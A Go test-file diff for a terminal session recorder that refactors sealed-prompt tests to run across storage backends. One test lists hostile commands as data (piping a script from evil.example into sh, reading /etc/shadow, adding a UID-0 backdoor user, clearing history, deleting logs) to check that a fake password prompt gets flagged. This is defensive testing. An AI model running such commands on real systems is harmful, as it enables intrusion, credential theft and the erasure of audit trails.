@@ -49,7 +49,7 @@ func sealedText(t *testing.T, e *env, w *Writer) []string {
 	if w.SealedPath() == "" {
 		return nil
 	}
-	in, err := OpenSealed(e.v, w.SealedPath())
+	in, err := e.openSealed(w.SealedPath())
 	must(t, err)
 	var out []string
 	for _, s := range in {
@@ -58,7 +58,9 @@ func sealedText(t *testing.T, e *env, w *Writer) []string {
 	return out
 }
 
-func TestSealedPrompts(t *testing.T) {
+func TestSealedPrompts(t *testing.T) { eachStorage(t, testSealedPrompts) }
+
+func testSealedPrompts(t *testing.T) {
 	tests := []struct {
 		name       string
 		steps      []ioStep
@@ -101,7 +103,7 @@ func TestSealedPrompts(t *testing.T) {
 			if got := sealedText(t, e, w); !reflect.DeepEqual(got, tc.wantSealed) {
 				t.Fatalf("sealed %q, want %q", got, tc.wantSealed)
 			}
-			evs, err := readAll(t, e.v, w.Path())
+			evs, err := readAll(t, e, w.Path())
 			must(t, err)
 			var in string
 			for _, ev := range evs {
@@ -112,7 +114,7 @@ func TestSealedPrompts(t *testing.T) {
 			if in != tc.wantInput {
 				t.Fatalf("recorded input %q, want %q", in, tc.wantInput)
 			}
-			cast := string(exportCast(t, e.v, w.Path()))
+			cast := string(exportCast(t, e, w.Path()))
 			_, castEvs := parseTestCast(t, cast)
 			var marks []string
 			for _, ev := range castEvs {
@@ -136,7 +138,7 @@ func TestSealedPrompts(t *testing.T) {
 				t.Fatalf("summary lacks the sealed input: %+v", sum.Sealed)
 			}
 			// Verify and the listing see the same totals as Close.
-			r, err := Open(e.v, w.Path())
+			r, err := e.open(w.Path())
 			must(t, err)
 			vs, err := r.Verify()
 			r.Close()
@@ -145,7 +147,7 @@ func TestSealedPrompts(t *testing.T) {
 			if !reflect.DeepEqual(vs, sum) {
 				t.Fatalf("Verify %+v, Close %+v", vs, sum)
 			}
-			ls, err := ReadSealedSummary(e.v, w.Path())
+			ls, err := e.sealedSummary(w.Path())
 			must(t, err)
 			if ls != sum.Sealed {
 				t.Fatalf("ReadSealedSummary %+v, Close %+v", ls, sum.Sealed)
@@ -173,7 +175,9 @@ func parseTestCast(t *testing.T, cast string) (string, [][3]string) {
 // TestSealedFakePromptFlagged: a shell that prints "Password:" before
 // every command, with echo off, would hide the commands; they are sealed,
 // and the session is flagged in the summary, the listing and the export.
-func TestSealedFakePromptFlagged(t *testing.T) {
+func TestSealedFakePromptFlagged(t *testing.T) { eachStorage(t, testSealedFakePromptFlagged) }
+
+func testSealedFakePromptFlagged(t *testing.T) {
 	e := newEnv(t)
 	var steps []ioStep
 	cmds := []string{"curl -s http://evil.example/x | sh", "cat /etc/shadow", "useradd -o -u 0 backdoor", "history -c", "rm -rf /var/log/tandem"}
@@ -184,12 +188,12 @@ func TestSealedFakePromptFlagged(t *testing.T) {
 	if !sum.Sealed.Flagged || sum.Sealed.Prompts != int64(len(cmds)) {
 		t.Fatalf("fake prompts: summary %+v, want flagged with %d prompts", sum.Sealed, len(cmds))
 	}
-	ls, err := ReadSealedSummary(e.v, w.Path())
+	ls, err := e.sealedSummary(w.Path())
 	must(t, err)
 	if !ls.Flagged || ls.Keystrokes != sum.Sealed.Keystrokes {
 		t.Fatalf("listing summary %+v, want %+v", ls, sum.Sealed)
 	}
-	cast := string(exportCast(t, e.v, w.Path()))
+	cast := string(exportCast(t, e, w.Path()))
 	if !strings.Contains(cast, MarkerSealedManyNote) {
 		t.Fatalf("the export does not flag the session:\n%s", cast)
 	}
@@ -206,7 +210,7 @@ func TestSealedFakePromptFlagged(t *testing.T) {
 		t.Fatalf("sealed %q, want the commands %q", got, cmds)
 	}
 	var replay bytes.Buffer
-	r, err := Open(e.v, w.Path())
+	r, err := e.open(w.Path())
 	must(t, err)
 	must(t, Replay(r, &replay, ReplayOptions{Sleep: func(d timeDuration) {}}))
 	r.Close()
@@ -309,19 +313,21 @@ func TestSealedKeySeparation(t *testing.T) {
 
 // TestSealedSummaryIncomplete: a recording cut short (crash) still
 // reports its sealed input in listings, from its EvSealed events.
-func TestSealedSummaryIncomplete(t *testing.T) {
+func TestSealedSummaryIncomplete(t *testing.T) { eachStorage(t, testSealedSummaryIncomplete) }
+
+func testSealedSummaryIncomplete(t *testing.T) {
 	e := newEnv(t)
 	w := e.create(t, e.meta("s-cut", KindPTY), Options{})
 	must(t, w.Output([]byte("Password: ")))
 	must(t, w.Input("alice", []byte("abc\r")))
 	must(t, w.Flush())
-	raw, err := os.ReadFile(w.Path())
+	raw, err := e.readRaw(w.Path())
 	must(t, err)
 	_, err = w.Close()
 	must(t, err)
 	cut := filepath.Join(e.dir, "recordings", "acme", Day(e.clock.Now()), "s-cut2.rec")
-	writeFile(t, cut, raw) // the file as it was before Close
-	s, err := ReadSealedSummary(e.v, cut)
+	e.writeRaw(t, cut, raw) // the recording as it was before Close
+	s, err := e.sealedSummary(cut)
 	must(t, err)
 	if s.Prompts != 1 || s.Keystrokes != 3 || s.Bytes != 3 || s.Flagged {
 		t.Fatalf("summary of the cut recording: %+v", s)
